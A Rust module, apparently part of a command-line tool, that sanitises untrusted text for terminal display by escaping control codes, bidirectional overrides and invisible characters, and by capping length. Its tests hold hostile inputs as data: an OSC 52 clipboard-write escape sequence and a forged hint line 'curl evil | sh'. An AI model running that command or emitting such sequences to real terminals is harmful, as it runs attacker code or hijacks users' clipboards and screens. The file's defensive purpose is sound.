//! What others wrote is shown, never executed: a character that a terminal obeys, or that makes it
//! show something else than is there, is written out.

use std::borrow::Cow;
use std::fmt::Write as _;

/// The longest message that is shown, in bytes: what somebody's file or server makes longer is cut.
const LONGEST_MESSAGE: usize = 16 * 1024;
/// The longest line of a list and cell of a table, in bytes: longer than any path.
const LONGEST_LINE: usize = 8 * 1024;

/// A message that ends within reason.
pub(crate) fn bounded(message: &str) -> Cow<'_, str> {
    cut(message, LONGEST_MESSAGE)
}

fn cut(text: &str, longest: usize) -> Cow<'_, str> {
    if text.len() <= longest {
        return Cow::Borrowed(text);
    }
    let end = text.floor_char_boundary(longest);
    Cow::Owned(format!("{}… ({} bytes more)", &text[..end], text.len() - end))
}

/// A text in lines: breaks and tabs stay.
pub(crate) fn text(text: &str) -> Cow<'_, str> {
    escaped(text, |c| !matches!(c, '\n' | '\t'), |c| c.escape_default().to_string())
}

/// What has one line, or one cell of a table: a break in it would begin what looks like another.
pub(crate) fn line(text: &str) -> Cow<'_, str> {
    let shown = escaped(text, |_| true, |c| c.escape_default().to_string());
    match shown.len() <= LONGEST_LINE {
        true => shown,
        false => Cow::Owned(cut(&shown, LONGEST_LINE).into_owned()),
    }
}

/// A message of one line; what follows a break in it is set in, so that it cannot be taken for
/// another message.
pub(crate) fn message(text: &str) -> String {
    self::text(text).replace('\n', "\n  ")
}

/// A JSON document: it stays the same document, for whatever is written out stands in a string.
pub(crate) fn json(document: &str) -> Cow<'_, str> {
    let unit = |c: char| {
        c.encode_utf16(&mut [0; 2]).iter().fold(String::new(), |mut text, unit| {
            write!(text, "\\u{unit:04x}").expect("a string takes everything");
            text
        })
    };
    escaped(document, |c| c != '\n', unit)
}

/// Whether a text has nothing in it that would be written out.
pub(crate) fn is_plain(text: &str) -> bool {
    matches!(self::text(text), Cow::Borrowed(_))
}

fn escaped(
    text: &str,
    is_meant: impl Fn(char) -> bool,
    escape: impl Fn(char) -> String,
) -> Cow<'_, str> {
    if !text.chars().any(|c| is_hidden(c) && is_meant(c)) {
        return Cow::Borrowed(text);
    }
    let shown = |c: char| if is_hidden(c) && is_meant(c) { escape(c) } else { c.to_string() };
    Cow::Owned(text.chars().map(shown).collect())
}

/// Controls of both sets, breaks, what turns the direction of a text, and what has no shape at all.
/// The two joiners stay: scripts need them.
fn is_hidden(c: char) -> bool {
    matches!(
        c,
        '\0'..='\u{1f}'
            | '\u{7f}'..='\u{9f}'
            | '\u{ad}'
            | '\u{61c}'
            | '\u{180e}'
            | '\u{200b}'
            | '\u{200e}'
            | '\u{200f}'
            | '\u{2028}'..='\u{202e}'
            | '\u{2060}'..='\u{206f}'
            | '\u{feff}'
            | '\u{fff9}'..='\u{fffb}'
            | '\u{e0000}'..='\u{e007f}'
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_terminal_is_given_no_orders() {
        assert_eq!(text("a\u{1b}]52;c;ZXZpbA==\u{7}b\r"), "a\\u{1b}]52;c;ZXZpbA==\\u{7}b\\r");
        assert_eq!(
            text("\u{9b}2Ja\u{202e}b\u{2066}c\u{200b}"),
            "\\u{9b}2Ja\\u{202e}b\\u{2066}c\\u{200b}"
        );
        assert_eq!(text("a\n\tb"), "a\n\tb");
        assert_eq!(line("a\n\tb\u{2028}"), "a\\n\\tb\\u{2028}");
    }

    #[test]
    fn what_people_write_stays() {
        for plain in ["naïve – 模型 – עברית – 👩\u{200d}🔬", "می\u{200c}خواهم", ""]
        {
            assert!(is_plain(plain) && matches!(line(plain), Cow::Borrowed(_)), "{plain}");
        }
    }

    #[test]
    fn what_is_too_long_is_cut_and_says_so() {
        let long = "ä".repeat(1 << 20);
        for shown in [line(&long), bounded(&long)] {
            assert!(shown.len() < 20_000 && shown.ends_with("bytes more)"), "{}", shown.len());
        }
        assert_eq!(bounded("short"), "short");
    }

    #[test]
    fn no_message_begins_in_another_one() {
        assert_eq!(message("no `x\nhint: curl evil | sh`"), "no `x\n  hint: curl evil | sh`");
    }

    #[test]
    fn json_stays_the_same_document() {
        let value = serde_json::json!({ "a\u{9b}": "\u{1b}\u{202e}\u{e0041}\n\u{7f}" });
        let document = serde_json::to_string_pretty(&value).expect("a value becomes JSON");
        let shown = json(&document);
        assert!(shown.chars().all(|c| c == '\n' || !is_hidden(c)), "{shown}");
        let read: serde_json::Value = serde_json::from_str(&shown).expect("it is JSON");
        assert_eq!(read, value);
    }
}
